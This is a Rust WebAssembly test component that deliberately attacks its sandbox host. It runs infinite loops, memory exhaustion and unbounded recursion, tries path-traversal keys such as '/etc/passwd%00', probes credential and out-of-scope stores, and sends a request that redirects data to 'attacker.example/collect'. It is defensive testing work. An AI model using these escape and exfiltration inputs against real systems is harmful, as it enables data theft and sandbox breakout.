//! A hostile component for the sandbox tests. It implements the same `engine` world as the real
//! guest, and its `sync` export misbehaves according to the command in `issue-json`:
//!
//! | command | behaviour | the host must answer |
//! |---|---|---|
//! | `loop` | spins forever | a deadline error |
//! | `alloc` | allocates until allocation fails | a memory-limit error |
//! | `recurse` | recurses without end, with locals on Rust's shadow stack in linear memory | a trap (out-of-bounds access below the stack) |
//! | `recurse-wasm` | recurses without end using only wasm locals | a stack-overflow error (the wasm stack cap) |
//! | `huge-output` | returns an 8 MiB page | an output-too-large error |
//! | `panic` | panics | a trap error |
//! | `probe-store` | tries to read and write outside its scope | refusals, reported back |
//! | `write:VALUE` | seals and stores VALUE under `probe/key` | success |
//! | `open:HEX` | tries to open the envelope HEX as `page-index`/`probe/key` | the page says `opened:…` or `refused:…` |
//! | `digest:TEXT` | asks for the keyed digest of TEXT | the page is the digest |
//! | `redirect:PROVIDER` | sends a model request for PROVIDER whose body carries a URL | a refusal, reported back |
//! | `credential` | tries to open and seal in the host's credential namespace | refusals, reported back |
//! | anything else | returns a small valid outcome | success |
//!
//! The other exports answer with errors or empty values: this component exists only to attack
//! the host.

#![allow(missing_docs)]

mod bindings {
    wit_bindgen::generate!({ world: "engine", path: "../../wit" });
}

use std::hint::black_box;

use bindings::exports::synco::engine::{diff, documents, prompt, ranking, redaction, sync};
use bindings::synco::engine::{kms, model, store, types};

struct Hostile;

/// A redactor that redacts nothing (never used by the tests).
struct NoRedactor;

impl redaction::Guest for Hostile {
    type Redactor = NoRedactor;
}

impl redaction::GuestRedactor for NoRedactor {
    fn create(_: redaction::Policy, _: Vec<types::Person>) -> Result<redaction::Redactor, redaction::RedactionError> {
        Ok(redaction::Redactor::new(NoRedactor))
    }
    fn redact(&self, text: String) -> Result<String, redaction::RedactionError> {
        Ok(text)
    }
    fn restore(&self, text: String) -> redaction::Restored {
        redaction::Restored { text, unknown: Vec::new() }
    }
    fn counts(&self) -> Vec<types::KindCount> {
        Vec::new()
    }
    fn detect(&self, _: String) -> Result<Vec<redaction::Span>, redaction::RedactionError> {
        Ok(Vec::new())
    }
}

impl documents::Guest for Hostile {
    fn parse_issue(_: String) -> Result<documents::Issue, types::DocumentError> {
        Err(types::DocumentError::MissingField("hostile".into()))
    }
    fn parse_page(_: String) -> Result<Vec<documents::Block>, types::DocumentError> {
        Ok(Vec::new())
    }
}

impl diff::Guest for Hostile {
    fn compare(_: String, _: String) -> Result<diff::Review, types::DocumentError> {
        Err(types::DocumentError::InvalidMarkup("hostile".into()))
    }
    fn merge(_: String, _: String, _: String) -> Result<diff::Merged, types::DocumentError> {
        Err(types::DocumentError::InvalidMarkup("hostile".into()))
    }
}

pub struct NoIndex;

impl ranking::GuestIndex for NoIndex {
    fn new(_: u32) -> Self {
        NoIndex
    }
    fn add(&self, _: Vec<ranking::Entry>) -> Result<(), ranking::RankingError> {
        Err(ranking::RankingError::EmptyQuery)
    }
    fn len(&self) -> u32 {
        0
    }
    fn search(&self, _: Vec<ranking::Query>, _: ranking::Scan) -> Result<Vec<Vec<ranking::Scored>>, ranking::RankingError> {
        Err(ranking::RankingError::EmptyQuery)
    }
}

impl ranking::Guest for Hostile {
    type Index = NoIndex;

    fn top_k(_: Vec<f32>, _: Vec<ranking::Candidate>, _: u32) -> Result<Vec<ranking::Scored>, ranking::RankingError> {
        Err(ranking::RankingError::EmptyQuery)
    }
}

impl prompt::Guest for Hostile {
    fn build(_: prompt::PromptInput) -> Result<prompt::BuiltPrompt, prompt::PromptError> {
        Err(prompt::PromptError::BadBoundary)
    }
}

impl sync::Guest for Hostile {
    fn sync(request: sync::SyncRequest) -> Result<sync::SyncOutcome, sync::SyncError> {
        let command = request.issue_json.as_str();
        match command {
            "loop" => spin(),
            "alloc" => hoard(),
            "recurse" => Ok(outcome(format!("{}", recurse(black_box(1))))),
            "recurse-wasm" => Ok(outcome(format!("{}", recurse_wasm(black_box(1))))),
            "huge-output" => Ok(outcome("x".repeat(8 * 1024 * 1024))),
            "panic" => panic!("hostile guest panics on command"),
            "probe-store" => Ok(outcome(probe())),
            _ => Ok(outcome(other(command)?)),
        }
    }

    fn index_page(_: sync::PageInput, _: redaction::Policy, _: types::Provider) -> Result<String, sync::SyncError> {
        Err(sync::SyncError::BadModelOutput("hostile".into()))
    }

    fn related(_: String, _: redaction::Policy, _: types::Provider, _: sync::RelatedOptions) -> Result<Vec<sync::RelatedPage>, sync::SyncError> {
        Err(sync::SyncError::BadModelOutput("hostile".into()))
    }
}

/// The commands that take an argument.
fn other(command: &str) -> Result<String, sync::SyncError> {
    if let Some(value) = command.strip_prefix("write:") {
        return write(value).map(|()| "written".into());
    }
    if let Some(hex) = command.strip_prefix("open:") {
        return Ok(match kms::open("page-index", "probe/key", &unhex(hex)) {
            Ok(plain) => format!("opened:{}", String::from_utf8_lossy(&plain)),
            Err(e) => format!("refused:{e:?}"),
        });
    }
    if let Some(text) = command.strip_prefix("digest:") {
        return kms::digest(text.as_bytes()).map_err(sync::SyncError::Kms);
    }
    if let Some(provider) = command.strip_prefix("redirect:") {
        return Ok(redirect(provider));
    }
    if command == "credential" {
        let open = kms::open("credential", "openai", b"SYN1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
        let seal = kms::seal("credential", "openai", b"attacker's key");
        return Ok(format!("open:{}\nseal:{}", open.is_err(), seal.is_err()));
    }
    Ok("ok".into())
}

/// Asks the host to send a request that carries a URL of the guest's choosing.
fn redirect(provider: &str) -> String {
    let provider = match provider {
        "openai" => types::Provider::Openai,
        "anthropic" => types::Provider::Anthropic,
        _ => types::Provider::Offline,
    };
    let body = r#"{"model":"gpt-4o","messages":[],"url":"http://attacker.example/collect","base_url":"http://attacker.example"}"#;
    let digest = sha256_hex(body.as_bytes());
    let request = model::GenerateRequest { provider, model: "gpt-4o".into(), body: body.into(), digest, redactions: Vec::new() };
    match model::generate(&request) {
        Ok(response) => format!("sent:{}", response.status),
        Err(e) => format!("refused:{e:?}"),
    }
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(data).iter().map(|b| format!("{b:02x}")).collect()
}

fn unhex(hex: &str) -> Vec<u8> {
    (0..hex.len() / 2).filter_map(|i| hex.get(2 * i..2 * i + 2)).filter_map(|b| u8::from_str_radix(b, 16).ok()).collect()
}

fn outcome(page: String) -> sync::SyncOutcome {
    sync::SyncOutcome {
        page,
        // Named like a real sync, so a page it wrote counts as synced and the event as applied.
        version_message: "Sync-o: HOSTILE-1 · 0000000000000000".into(),
        sync_id: "0000000000000000".into(),
        review: diff::Review { summary: String::new(), edit_script: "[]".into(), html: String::new(), changed_blocks: 0 },
        conflicts: 0,
        redactions: Vec::new(),
        unknown_placeholders: 0,
        related: Vec::new(),
        audit_id: String::new(),
    }
}

fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn hoard() -> ! {
    let mut held: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 16 * 1024 * 1024];
        chunk[0] = 1;
        held.push(black_box(chunk));
    }
}

#[allow(unconditional_recursion)]
fn recurse(depth: u64) -> u64 {
    let pad = black_box([depth; 32]);
    recurse(black_box(pad[3] + 1)) + pad[7]
}

/// Recursion whose frames live only on the wasm stack (no address-taken locals).
fn recurse_wasm(depth: u64) -> u64 {
    if black_box(depth) == u64::MAX { 0 } else { recurse_wasm(depth + 1).wrapping_mul(3).wrapping_add(depth) }
}

fn write(value: &str) -> Result<(), sync::SyncError> {
    let sealed = kms::seal("page-index", "probe/key", value.as_bytes()).map_err(sync::SyncError::Kms)?;
    store::put("page-index", "probe/key", &sealed, None).map_err(sync::SyncError::Store)
}

/// Tries every way out of its scope it can express and reports, one line each, what happened.
fn probe() -> String {
    let mut report = Vec::new();
    let listed = store::list("page-index", "").map(|keys| keys.len());
    report.push(format!("list-all:{listed:?}"));
    report.push(format!("get-probe:{:?}", store::get("page-index", "probe/key").map(|v| v.is_some())));
    for key in ["../other/probe/key", "probe/key\0", "", "/etc/passwd%00"] {
        report.push(format!("get-bad-key:{}", store::get("page-index", key).is_err()));
    }
    for namespace in ["audit", "tenant_keys", "records", "config", ""] {
        report.push(format!("get-bad-namespace:{}", store::get(namespace, "probe/key").is_err()));
    }
    report.push(format!("put-plaintext:{}", store::put("page-index", "probe/plain", b"plaintext secret", None).is_err()));
    let forged = [b"SYN1".as_slice(), &[0u8; 40]].concat();
    report.push(format!("put-forged:{}", store::put("page-index", "probe/forged", &forged, None).is_err()));
    report.join("\n")
}

bindings::export!(Hostile with_types_in bindings);
